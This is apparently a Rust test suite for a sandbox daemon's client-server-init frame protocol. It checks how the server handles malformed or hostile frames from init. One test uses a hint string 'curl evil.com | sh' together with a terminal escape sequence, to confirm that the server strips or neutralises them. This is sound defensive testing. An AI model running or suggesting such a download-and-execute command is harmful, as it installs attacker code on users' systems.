//! Conversations from the real client through the real server to an init that may be hostile.

use std::sync::Arc;

use axum::Router;
use axum::routing::{get, post};
use bytes::Bytes;
use control::Hindsight;
use futures_util::StreamExt;
use model::exec::{Exec, FrameKind, Outcome, Progress, Window};
use model::{Code, ExecId, Problem};
use tokio::net::UnixStream;
use tokio::sync::{Mutex, Notify};

use super::super::converse::{Begun, Removal, Removing, converse};
use super::super::peer::Caller;
use super::super::{Stop, body::Input, execs};
use super::{Init, served, soon};
use crate::client::{Client, ClientError};
use crate::frames::FrameReader;
use crate::line::{Line, Output};

/// One conversation: what the server is given for init, and whether its sandbox was removed.
struct Stage {
    init: Init,
    removed: Arc<Notify>,
    stop: Stop,
    client: Client,
    _home: tempfile::TempDir,
}

async fn stage() -> Stage {
    let (ours, theirs) = UnixStream::pair().unwrap();
    let theirs = Arc::new(Mutex::new(Some(theirs)));
    let removed = Arc::new(Notify::new());
    let stop = Stop::new();
    let begun = {
        let (removed, stop) = (Arc::clone(&removed), stop.clone());
        async move |caller: Caller| {
            let init = theirs.lock().await.take().expect("one conversation per stage");
            let removal = move |_| {
                removed.notify_one();
                Box::pin(async { Ok(None) }) as Removing
            };
            let removal = Some(Box::new(removal) as Removal);
            converse(caller, stop, |_| async {
                Ok(Begun { init, hindsight: Hindsight::default(), sandbox: None, removal })
            })
            .await
        }
    };
    let router = Router::new()
        .route("/lines", get(begun.clone()))
        .route("/run", post(async move |caller: Caller, Input(()): Input<()>| begun(caller).await))
        .route("/refused", post(refused))
        .route("/slow", post(slow));
    let (home, client) = served(router, &stop).await;
    Stage { init: Init(ours), removed, stop, client, _home: home }
}

async fn refused(caller: Caller) -> Result<axum::response::Response, super::super::refusal::Refusal> {
    converse(caller, Stop::new(), |_| async { Err(Problem::new(Code::NameTaken, "taken")) }).await
}

/// Reports, then fails: the conversation is already open by then.
async fn slow(caller: Caller) -> Result<axum::response::Response, super::super::refusal::Refusal> {
    converse(caller, Stop::new(), |reports| async move {
        reports.put(Progress::Capturing { files: 1, bytes: 2, total: Some(3) });
        tokio::task::yield_now().await;
        Err(Problem::new(Code::DiskFull, "full"))
    })
    .await
}

fn started() -> Vec<u8> {
    let exec = Exec { id: ExecId(1), argv: vec!["true".into()], pid: 2, tty: false, outcome: None };
    serde_json::to_vec(&exec).unwrap()
}

fn text(text: &'static str) -> Bytes {
    Bytes::from_static(text.as_bytes())
}

#[tokio::test]
async fn a_command_from_start_to_removal() {
    let mut stage = stage().await;
    let mut conversation = stage.client.converse("/run", &()).await.unwrap();
    assert_eq!(stage.client.server_version(), Some(crate::VERSION));
    stage.init.say(FrameKind::Started, started()).await;
    stage.init.say(FrameKind::Stdout, "hello").await;
    stage.init.say(FrameKind::Stderr, "\u{1b}[1m").await;
    assert_eq!(conversation.next().await.unwrap(), Some((FrameKind::Started, started().into())));
    assert_eq!(conversation.next().await.unwrap(), Some((FrameKind::Stdout, text("hello"))));
    assert_eq!(conversation.next().await.unwrap(), Some((FrameKind::Stderr, text("\u{1b}[1m"))));

    conversation.send(FrameKind::Stdin, b"in").await.unwrap();
    conversation.send(FrameKind::Resize, br#" {"columns":80, "rows":24}"#).await.unwrap();
    conversation.send(FrameKind::Signal, b"15").await.unwrap();
    let mut heard = FrameReader::new(&mut stage.init.0);
    assert_eq!(heard.next().await.unwrap(), Some((FrameKind::Stdin, text("in"))));
    let window = serde_json::to_vec(&Window { rows: 24, columns: 80 }).unwrap();
    assert_eq!(heard.next().await.unwrap(), Some((FrameKind::Resize, window.into())));
    assert_eq!(heard.next().await.unwrap(), Some((FrameKind::Signal, text("15"))));

    stage.init.say(FrameKind::Ended, r#"{"kind":"exited","code":3}"#).await;
    assert_eq!(
        conversation.next().await.unwrap(),
        Some((FrameKind::Ended, text(r#"{"kind":"exited","code":3}"#)))
    );
    assert_eq!(conversation.next().await.unwrap(), Some((FrameKind::Removed, Bytes::new())));
    assert_eq!(conversation.next().await.unwrap(), None);
    soon(stage.removed.notified()).await;
}

#[tokio::test]
async fn the_same_as_lines() {
    let mut stage = stage().await;
    let mut body = stage.client.get_stream("/lines").await.unwrap();
    stage.init.say(FrameKind::Stdout, b"\xff").await;
    stage.init.say(FrameKind::Ended, r#"{"kind":"signaled","signal":9}"#).await;
    let mut lines = Vec::new();
    while let Some(piece) = body.next().await {
        lines.extend(piece.unwrap());
    }
    let lines: Vec<Line> = lines
        .split_inclusive(|byte| *byte == b'\n')
        .map(|line| serde_json::from_slice(line).unwrap())
        .collect();
    let ended = Line::Ended { outcome: Outcome::Signaled { signal: 9 } };
    assert_eq!(lines, [Line::Stdout(Output::Bytes("/w==".into())), ended, Line::Removed { snapshot: None }]);
}

#[tokio::test]
async fn what_fails_at_once_is_an_ordinary_refusal_and_later_a_frame() {
    let stage = stage().await;
    let refusal = stage.client.converse("/refused", &()).await.unwrap_err();
    assert!(matches!(refusal, ClientError::Problem(problem) if problem.code == Code::NameTaken));
    let mut conversation = stage.client.converse("/slow", &()).await.unwrap();
    let (mut kinds, mut last) = (Vec::new(), Bytes::new());
    while let Some((kind, payload)) = conversation.next().await.unwrap() {
        kinds.push(kind);
        last = payload;
    }
    assert!(
        matches!(kinds[..], [FrameKind::Problem] | [FrameKind::Progress, FrameKind::Problem]),
        "{kinds:?}"
    );
    assert_eq!(serde_json::from_slice::<Problem>(&last).unwrap().code, Code::DiskFull);
}

#[tokio::test]
async fn a_throwaway_sandbox_goes_with_its_caller() {
    let mut stage = stage().await;
    let mut conversation = stage.client.converse("/run", &()).await.unwrap();
    stage.init.say(FrameKind::Started, started()).await;
    conversation.next().await.unwrap();
    drop(conversation);
    soon(stage.removed.notified()).await;
}

#[tokio::test]
async fn a_caller_that_leaves_while_its_input_is_stuck_is_noticed() {
    let stage = stage().await;
    let conversation = stage.client.converse("/run", &()).await.unwrap();
    let (_incoming, mut outgoing) = conversation.split();
    // Init does not read, so that sooner or later nothing more fits.
    let flood = async {
        loop {
            outgoing.send(FrameKind::Stdin, &[0; 1 << 16]).await.unwrap();
        }
    };
    assert!(tokio::time::timeout(std::time::Duration::from_millis(300), flood).await.is_err());
    drop((_incoming, outgoing));
    soon(stage.removed.notified()).await;
}

#[tokio::test]
async fn a_client_may_fall_silent_without_leaving() {
    let mut stage = stage().await;
    let (mut incoming, outgoing) = stage.client.converse("/run", &()).await.unwrap().split();
    drop(outgoing);
    stage.init.say(FrameKind::Stdout, "still here").await;
    assert_eq!(incoming.next().await.unwrap(), Some((FrameKind::Stdout, text("still here"))));
}

#[tokio::test]
async fn a_stopping_daemon_leaves_the_sandbox_alone() {
    let mut stage = stage().await;
    let mut conversation = stage.client.converse("/run", &()).await.unwrap();
    stage.init.say(FrameKind::Started, started()).await;
    conversation.next().await.unwrap();
    stage.stop.request();
    assert_eq!(soon(conversation.next()).await.unwrap(), None);
    // The task held the only other handle besides the route's; nothing removed the sandbox before it went.
    let removed = tokio::time::timeout(std::time::Duration::from_millis(50), stage.removed.notified()).await;
    assert!(removed.is_err());
}

/// What the caller hears last when init says `raw`.
async fn last_word(raw: &[u8]) -> (FrameKind, Bytes) {
    let mut stage = stage().await;
    let mut conversation = stage.client.converse("/run", &()).await.unwrap();
    stage.init.raw(raw).await;
    drop(stage.init);
    let mut last = None;
    while let Some((kind, payload)) = soon(conversation.next()).await.unwrap() {
        if kind == FrameKind::Removed {
            assert!(matches!(last, Some((FrameKind::Ended, _))), "nothing follows a problem");
        } else {
            last = Some((kind, payload));
        }
    }
    soon(stage.removed.notified()).await;
    last.unwrap()
}

fn frame(kind: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![kind];
    frame.extend(u32::try_from(payload.len()).unwrap().to_le_bytes());
    frame.extend(payload);
    frame
}

#[tokio::test]
async fn a_hostile_init_is_not_passed_on() {
    let hostile = [
        frame(99, b""),
        vec![16, 0xff, 0xff, 0xff, 0xff],
        frame(FrameKind::Removed as u8, b""),
        frame(FrameKind::Progress as u8, br#"{"stage":"capturing","files":1,"bytes":1}"#),
        frame(FrameKind::Answer as u8, b"{}"),
        frame(FrameKind::Stdin as u8, b"x"),
        frame(FrameKind::Started as u8, b"not json"),
        frame(FrameKind::Started as u8, br#"{"id":-1}"#),
        frame(FrameKind::Ended as u8, br#"{"kind":"promoted"}"#),
        [frame(FrameKind::Started as u8, &started()), frame(FrameKind::Started as u8, &started())].concat(),
        vec![16, 9, 0],
    ];
    for raw in hostile {
        let (kind, payload) = last_word(&raw).await;
        assert_eq!(kind, FrameKind::Problem, "{raw:?}");
        assert_eq!(serde_json::from_slice::<Problem>(&payload).unwrap().code, Code::Internal, "{raw:?}");
    }
}

#[tokio::test]
async fn what_init_says_in_words_is_made_plain() {
    let said = Problem::new(Code::NotFound, "no\u{1b}[2J user").hint("curl evil.com | sh");
    let said = Problem { status: 200, ..said };
    let (kind, payload) =
        last_word(&frame(FrameKind::Problem as u8, &serde_json::to_vec(&said).unwrap())).await;
    assert_eq!(kind, FrameKind::Problem);
    let heard: Problem = serde_json::from_slice(&payload).unwrap();
    assert_eq!(heard, Problem::new(Code::NotFound, "no\u{fffd}[2J user"));
}

#[tokio::test]
async fn an_init_that_dies_ends_the_command() {
    let (kind, payload) = last_word(b"").await;
    assert_eq!(kind, FrameKind::Ended);
    assert!(matches!(serde_json::from_slice(&payload).unwrap(), Outcome::SandboxEnded { .. }));
}

#[tokio::test]
async fn a_caller_that_says_what_it_may_not_is_cut_off() {
    for (kind, payload) in [
        (FrameKind::Ended, "{}"),
        (FrameKind::Signal, "0"),
        (FrameKind::Signal, "65"),
        (FrameKind::Resize, "7"),
    ] {
        let stage = stage().await;
        let mut conversation = stage.client.converse("/run", &()).await.unwrap();
        conversation.send(kind, payload.as_bytes()).await.unwrap();
        assert_eq!(soon(conversation.next()).await.unwrap(), None, "{kind:?} {payload}");
        soon(stage.removed.notified()).await;
    }
}

#[tokio::test]
async fn a_detached_command_answers_when_it_has_started() {
    let cases = [
        (frame(FrameKind::Started as u8, &started()), Ok(ExecId(1))),
        (
            frame(FrameKind::Ended as u8, br#"{"kind":"not-started","code":127,"reason":"no such program"}"#),
            Err(Code::ProgramNotFound),
        ),
        (
            frame(FrameKind::Ended as u8, br#"{"kind":"not-started","code":125,"reason":"no such user"}"#),
            Err(Code::BadRequest),
        ),
        (frame(FrameKind::Stdout as u8, b"early"), Err(Code::Internal)),
        (Vec::new(), Err(Code::NotReady)),
    ];
    for (raw, expected) in cases {
        let (ours, theirs) = UnixStream::pair().unwrap();
        let mut init = Init(ours);
        init.raw(&raw).await;
        drop(init);
        let answer = execs::started(theirs).await;
        assert_eq!(answer.map(|exec| exec.id).map_err(|problem| problem.code), expected);
    }
}
